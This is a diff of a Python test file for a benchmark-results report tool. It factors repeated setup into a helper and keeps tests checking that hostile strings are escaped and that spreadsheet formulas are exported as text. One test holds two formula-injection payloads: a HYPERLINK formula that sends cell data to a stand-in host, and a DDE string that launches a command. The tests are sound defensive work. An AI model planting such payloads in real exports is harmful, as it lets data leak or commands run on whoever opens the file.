@@ -55,13 +55,19 @@ def _assert_inert(page: str) -> str:
     return "".join(seen.text)
 
 
-def test_hostile_strings_in_the_table_appear_escaped(tmp_path, capsys):
-    src, out = tmp_path / "results", tmp_path / "report"
+def _collected(tmp_path, out):
+    """The demo-like results collected into a table at `out`; its rows, to be forged and written back."""
+    src = tmp_path / "results"
     store = open_store(str(src))
     for r in demo_like_results():
         store.put_bytes(result_key(r), result_bytes(r))
     assert main(["collect", "--results", str(src), "--table", str(out), "--json"]) == 0
-    runs = read_table(out)
+    return read_table(out)
+
+
+def test_hostile_strings_in_the_table_appear_escaped(tmp_path, capsys):
+    out = tmp_path / "report"
+    runs = _collected(tmp_path, out)
     runs.loc[runs["offering_id"] == "aws/p3.2xlarge", "offering_id"] = HOSTILE  # the fastest: in the answer too
     runs.loc[runs["offering_id"] == "aws/p2.xlarge", "price_source"] = HOSTILE
     runs.loc[runs["benchmark"] == "resnet50", "workload_label"] = HOSTILE
@@ -110,12 +116,8 @@ def test_summary_csv_shows_a_formula_in_the_data_as_text(tmp_path, capsys):
     written with a leading quote, in the results export's dialect (analysis.csv_export)."""
     import csv
 
-    src, out = tmp_path / "results", tmp_path / "report"
-    store = open_store(str(src))
-    for r in demo_like_results():
-        store.put_bytes(result_key(r), result_bytes(r))
-    assert main(["collect", "--results", str(src), "--table", str(out), "--json"]) == 0
-    runs = read_table(out)
+    out = tmp_path / "report"
+    runs = _collected(tmp_path, out)
     formula, tabbed = '=HYPERLINK("http://x.example/?"&A1,"ok")', "\t+cmd|' /C calc'!A0"
     runs.loc[runs["offering_id"] == "aws/p3.2xlarge", "offering_id"] = formula
     runs.loc[runs["offering_id"] == "aws/p2.xlarge", "price_source"] = tabbed
